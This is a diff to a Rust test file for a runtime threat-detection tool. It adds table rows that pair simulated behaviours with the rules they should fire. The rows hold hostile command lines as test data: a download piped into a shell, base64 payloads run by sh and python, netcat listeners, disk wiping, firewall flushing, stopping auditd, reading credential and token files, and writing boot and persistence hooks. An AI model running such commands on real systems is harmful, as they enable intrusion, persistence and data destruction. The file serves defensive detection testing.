@@ -51,7 +51,18 @@ const MEMORY: &str = "Memory of another process opened for writing";
 const SETUID: &str = "Setuid bit set";
 
 /// Rules that no row makes fire, and why.
-const NOT_COVERED: &[(&str, &str)] = &[(MODULE, "a module that loads would stay in the kernel")];
+const NOT_COVERED: &[(&str, &str)] = &[
+    (MODULE, "a module that loads would stay in the kernel"),
+    ("BPF program loaded by an unexpected program", "the test itself loads some, and is never reported"),
+    ("Library forced into a program", "the actor's children get no environment of their choice"),
+    ("Privileged container started", PODS),
+    ("Container started with the node's files", PODS),
+    ("Container started with a runtime's socket", PODS),
+    ("Container shares the node's processes", PODS),
+];
+
+/// Where rules are shown that need a real runtime.
+const PODS: &str = "containers.rs shows it with real pods";
 
 const ROWS: &[Row] = &[
     // Containers. Programs are links in /var/tmp here, which is a finding of its own in a container.
@@ -204,6 +215,220 @@ const ROWS: &[Row] = &[
     Row { does: "fchmodat path=file mode=04755", fires: &[SETUID] },
     Row { does: "chmod path=file mode=0755", fires: &[] },
     Row { does: "chmod path=sub mode=02755", fires: &[] },
+    // Tools in containers.
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:kubectl} get pods",
+        fires: &["Kubernetes client in a container", TEMPORARY],
+    },
+    Row { does: "spawn {bin:kubectl} get pods", fires: &[] },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:crictl} ps",
+        fires: &["Container client in a container", TEMPORARY],
+    },
+    Row { does: "spawn {bin:crictl} ps", fires: &[] },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:gcc} -o x",
+        fires: &["Compiler in a container", TEMPORARY],
+    },
+    Row { does: "spawn {bin:gcc} -o x", fires: &[] },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:sshd} -D",
+        fires: &["SSH server in a container", TEMPORARY],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:ssh} root@host",
+        fires: &["SSH client in a container", TEMPORARY],
+    },
+    Row { does: "with cgroup={cgroup} -- spawn {bin:sudo} -i", fires: &["Sudo in a container", TEMPORARY] },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:gdb} -p 1",
+        fires: &["Debugger started in a container", TEMPORARY],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:rclone} copy",
+        fires: &["Cloud storage client in a container", TEMPORARY],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:curl} --upload-file /data",
+        fires: &["File uploaded by a command-line tool", TEMPORARY],
+    },
+    Row { does: "with cgroup={cgroup} -- spawn {bin:curl} -fsS http://localhost", fires: &[TEMPORARY] },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:nc} -lvp 4444",
+        fires: &["Network listener started by netcat", TEMPORARY],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- spawn {bin:chroot} /host sh",
+        fires: &["Container moved itself into its node's folders", TEMPORARY],
+    },
+    // Tools anywhere.
+    Row { does: "spawn {bin:chisel} client", fires: &["Tunnel program started"] },
+    Row { does: "spawn {bin:ssh} -N -R 8080:localhost:80 host", fires: &["SSH tunnel opened"] },
+    Row { does: "spawn {bin:ssh} host", fires: &[] },
+    Row { does: "spawn {bin:nmap} -sS", fires: &["Network scanner started"] },
+    Row { does: "spawn {bin:tcpdump} -i any", fires: &["Packet capture started"] },
+    Row { does: "spawn {bin:peirates}", fires: &["Tool for break-ins started"] },
+    Row { does: "spawn {bin:find} / -perm -4000", fires: &["Search for programs that run as root"] },
+    Row { does: "spawn {bin:find} / -perm -0002", fires: &[] },
+    Row {
+        does: "spawn {bin:sh} -c curl\\x20-s\\x20http://203.0.113.7/x\\x20|\\x20sh",
+        fires: &["Download piped into a shell"],
+    },
+    Row {
+        does: "spawn {bin:sh} -c echo\\x20aWQK\\x20|\\x20base64\\x20-d\\x20|\\x20sh",
+        fires: &["Encoded command run by a shell"],
+    },
+    Row {
+        does: "spawn {bin:python3} -c exec(base64.b64decode('x'))",
+        fires: &["Interpreter runs encoded code from its command line"],
+    },
+    Row { does: "spawn {bin:python3} -c print(1)", fires: &[] },
+    Row { does: "spawn {bin:useradd} x", fires: &["Account or group added"] },
+    Row { does: "spawn {bin:dmesg} -C", fires: &["Kernel log emptied"] },
+    Row { does: "spawn {bin:dmesg} -T", fires: &[] },
+    Row { does: "spawn {bin:journalctl} --vacuum-time=1s", fires: &["Journal cut short"] },
+    Row { does: "spawn {bin:systemctl} stop auditd", fires: &["Security service stopped"] },
+    Row { does: "spawn {bin:systemctl} status auditd", fires: &[] },
+    Row { does: "spawn {bin:iptables} -F", fires: &["Firewall emptied"] },
+    Row { does: "spawn {bin:iptables} -F CHAIN", fires: &[] },
+    Row { does: "spawn {bin:setenforce} 0", fires: &["Mandatory access control switched off"] },
+    Row { does: "spawn {bin:chattr} +i file", fires: &["File made unchangeable or changeable again"] },
+    Row { does: "spawn {bin:touch} -r /usr/bin/ls /usr/bin/x", fires: &["Time of a system file changed"] },
+    Row { does: "spawn {bin:shred} -u file", fires: &["Files destroyed beyond recovery"] },
+    Row { does: "spawn {bin:dd} of=/dev/sda", fires: &["Disk overwritten by a command"] },
+    Row { does: "spawn {bin:dd} of=file", fires: &[] },
+    Row { does: "spawn {bin:setcap} cap_setuid+ep x", fires: &["Capability given to a file"] },
+    Row {
+        does: "spawn-as {actor} [kworker/0:1] facts",
+        fires: &["Program with the name of a kernel thread"],
+    },
+    // Secrets. /tmp and /dev are overlays here, private to the actor.
+    Row { does: "spawn /bin/cat /proc/self/environ", fires: &["Environment of another process read"] },
+    Row { does: "open path=/proc/self/environ", fires: &[] },
+    Row { does: "spawn /bin/cat .bash_history", fires: &["Shell history read by a command-line tool"] },
+    Row { does: "open path=.bash_history", fires: &[] },
+    Row { does: "spawn /bin/cat .netrc", fires: &["Password store read by a command-line tool"] },
+    Row { does: "open path=.netrc", fires: &[] },
+    Row {
+        does: "{tmp} spawn {bin:cat} open path=/tmp/krb5cc_1 flags=O_RDONLY|O_CREAT",
+        fires: &["Kerberos tickets read by a command-line tool"],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- {mnt} execve path=/mnt/above -- above open path={dir}/serviceaccount/token",
+        fires: &[
+            "Program not from the image in a container",
+            "Service account token read by a dropped program",
+        ],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- {mnt} execve path=/mnt/below -- below open path={dir}/serviceaccount/token",
+        fires: &[],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- {dev} open path=/dev/vdx flags=O_RDONLY|O_CREAT",
+        fires: &["Raw disk read in a container"],
+    },
+    Row { does: "{dev} open path=/dev/vdx flags=O_RDONLY|O_CREAT", fires: &[] },
+    Row {
+        does: "with cgroup={cgroup} -- {dev} open path=/dev/vdx flags=O_WRONLY|O_CREAT",
+        fires: &["Disk of the node written from a container"],
+    },
+    Row { does: "{dev} open path=/dev/mem flags=O_RDONLY|O_CREAT", fires: &["Memory of the machine read"] },
+    // More ways to stay.
+    Row { does: "{etc} open path=/etc/rc.local flags=O_WRONLY|O_CREAT", fires: &["Boot script changed"] },
+    Row { does: "{etc} open path=/etc/init.d/x flags=O_WRONLY|O_CREAT", fires: &["Boot script changed"] },
+    Row {
+        does: "{etc} open path=/etc/udev/rules.d/x.rules flags=O_WRONLY|O_CREAT",
+        fires: &["Udev rule changed"],
+    },
+    Row {
+        does: "{etc} open path=/etc/xdg/autostart/x.desktop flags=O_WRONLY|O_CREAT",
+        fires: &["Desktop autostart entry written"],
+    },
+    Row {
+        does: "{etc} open path=/etc/apt/apt.conf.d/x flags=O_WRONLY|O_CREAT",
+        fires: &["Package manager hook changed"],
+    },
+    Row {
+        does: "{etc} open path=/etc/ld.so.conf.d/x.conf flags=O_WRONLY|O_CREAT",
+        fires: &["Library search path changed"],
+    },
+    Row {
+        does: "{etc} open path=/etc/systemd/system-generators/x flags=O_WRONLY|O_CREAT",
+        fires: &["Service generator installed"],
+    },
+    Row {
+        does: "{etc} open path=/etc/kubernetes/manifests/x.yaml flags=O_WRONLY|O_CREAT",
+        fires: &["Static pod changed"],
+    },
+    Row {
+        does: "{etc} open path=/etc/ssl/certs/x.pem flags=O_WRONLY|O_CREAT",
+        fires: &["Trusted certificate added"],
+    },
+    Row { does: "{etc} open path=/etc/passwd flags=O_WRONLY|O_CREAT", fires: &["Account file changed"] },
+    Row { does: "{etc} open path=/etc/hosts flags=O_WRONLY|O_CREAT", fires: &["Names of hosts changed"] },
+    Row { does: "{etc} open path=/etc/motd flags=O_WRONLY|O_CREAT", fires: &[] },
+    Row { does: "{etc} open path=/etc/kubernetes/x.conf flags=O_WRONLY|O_CREAT", fires: &[] },
+    Row { does: "{etc} open path=/etc/apt/sources.list flags=O_WRONLY|O_CREAT", fires: &[] },
+    Row { does: "{etc} rename path=/etc/x path2=/etc/shadow", fires: &["Account file changed"] },
+    Row {
+        does: "{spool} open path=/var/spool/at/a1 flags=O_WRONLY|O_CREAT",
+        fires: &["One-time job queued"],
+    },
+    Row { does: "open path=security/pam_x.so flags=O_WRONLY|O_CREAT", fires: &["Login module replaced"] },
+    Row { does: "{usrbin} open path=/usr/bin/x flags=O_WRONLY|O_CREAT", fires: &["System program changed"] },
+    Row {
+        does: "open path=sitecustomize.py flags=O_WRONLY|O_CREAT",
+        fires: &["Python startup hook written"],
+    },
+    // Kernel and node.
+    Row {
+        does: "with cgroup={cgroup} -- unshare flags=CLONE_NEWUSER",
+        fires: &["User namespace made in a container"],
+    },
+    Row { does: "unshare flags=CLONE_NEWUSER", fires: &[] },
+    Row { does: "with cgroup={cgroup} -- unshare flags=CLONE_NEWUTS", fires: &[] },
+    Row {
+        does: "with cgroup={cgroup} -- userfaultfd flags=O_CLOEXEC",
+        fires: &["Page faults handled by a container"],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- open path=/proc/sys/kernel/domainname flags=O_WRONLY",
+        fires: &["Kernel setting changed from a container"],
+    },
+    Row { does: "open path=/proc/sys/kernel/domainname flags=O_WRONLY", fires: &[] },
+    Row {
+        does: "mount source=none target=/proc/{test} type=tmpfs",
+        fires: &["Process hidden by a mount over /proc"],
+    },
+    Row {
+        does: "symlinkat path=/dev/null path2=.x_history",
+        fires: &["Shell history redirected or removed"],
+    },
+    Row { does: "{tmp} execve path=/tmp/.hidden/x -- x facts", fires: &["Program run from a hidden folder"] },
+    Row {
+        does: "with cgroup={cgroup} -- {tmp} fchmodat path=/tmp/x mode=0755",
+        fires: &["Dropped file made executable"],
+    },
+    Row { does: "with cgroup={cgroup} -- {tmp} fchmodat path=/tmp/x mode=0644", fires: &[] },
+    // Connections.
+    Row {
+        does: "with cgroup={cgroup} -- lonely-net ip=10.1.2.3 port=10250 -- connect ip=10.1.2.3 port=10250",
+        fires: &["Kubelet contacted from a container"],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- lonely-net ip=10.1.2.3 port=2379 -- connect ip=10.1.2.3 port=2379",
+        fires: &["Cluster database contacted from a container"],
+    },
+    Row {
+        does: "with cgroup={cgroup} -- lonely-net ip=203.0.113.5 port=6667 -- connect ip=203.0.113.5 port=6667",
+        fires: &["Connection to an IRC server"],
+    },
+    Row {
+        does: "lonely-net ip=203.0.113.5 port=9001 -- connect ip=203.0.113.5 port=9001",
+        fires: &["Connection to a port of the Tor network"],
+    },
+    Row { does: "lonely-net ip=10.1.2.3 port=10250 -- connect ip=10.1.2.3 port=10250", fires: &[] },
 ];
 
 fn rules() -> RuleSet {
@@ -219,20 +444,54 @@ fn overlay(dir: &str, on: &str) -> String {
 
 fn prepare(scratch: &mut Scratch, group: &ContainerGroup, shm: &Path) {
     let dir = scratch.path().to_owned();
-    for folder in ["lower", "upper", "work", ".ssh", ".aws"] {
+    for folder in ["lower", "upper", "work", ".ssh", ".aws", "security", "serviceaccount"] {
         fs::create_dir(dir.join(folder)).expect("a folder");
     }
-    for folder in ["cron.d", "profile.d", "pam.d", "systemd/system"] {
+    for folder in [
+        "cron.d",
+        "profile.d",
+        "pam.d",
+        "systemd/system",
+        "systemd/system-generators",
+        "init.d",
+        "udev/rules.d",
+        "xdg/autostart",
+        "apt/apt.conf.d",
+        "ld.so.conf.d",
+        "kubernetes/manifests",
+        "ssl/certs",
+        "at",
+        ".hidden",
+    ] {
         fs::create_dir_all(dir.join("lower").join(folder)).expect("a folder");
     }
-    for file in [".ssh/id_rsa", ".aws/credentials", "lower/x", "lower/wtmp"] {
+    for file in [
+        ".ssh/id_rsa",
+        ".aws/credentials",
+        ".bash_history",
+        ".netrc",
+        "serviceaccount/token",
+        "lower/x",
+        "lower/wtmp",
+    ] {
         fs::write(dir.join(file), "").expect("a file");
     }
+    fs::copy(end_to_end::actor(), dir.join("lower/.hidden/x")).expect("a copy");
     fs::copy(end_to_end::actor(), dir.join("lower/below")).expect("a copy");
     fs::copy(end_to_end::actor(), dir.join("upper/above")).expect("a copy");
     let text = dir.to_str().expect("text");
     scratch.set("etc", overlay(text, "/etc"));
-    scratch.set("log", overlay(text, "/var/log"));
+    for (name, on) in [
+        ("log", "/var/log"),
+        ("tmp", "/tmp"),
+        ("dev", "/dev"),
+        ("mnt", "/mnt"),
+        ("spool", "/var/spool"),
+        ("usrbin", "/usr/bin"),
+    ] {
+        scratch.set(name, overlay(text, on));
+    }
+    scratch.set("test", std::process::id().to_string());
     scratch.set("cgroup", group.path().to_str().expect("text"));
     scratch.set("shm", shm.to_str().expect("text"));
 }
@@ -254,7 +513,7 @@ fn our_rules_fire_on_the_behaviour_and_not_on_a_near_miss() {
         return;
     }
     let group = ContainerGroup::new().expect("a cgroup");
-    let shm = tempfile::tempdir_in("/dev/shm").expect("a folder");
+    let shm = tempfile::Builder::new().prefix("yagura-").tempdir_in("/dev/shm").expect("a folder");
     fs::copy(end_to_end::actor(), shm.path().join("program")).expect("a copy");
     let script = shm.path().join("script");
     fs::write(&script, "#!/bin/sh\n:\n").expect("a script");
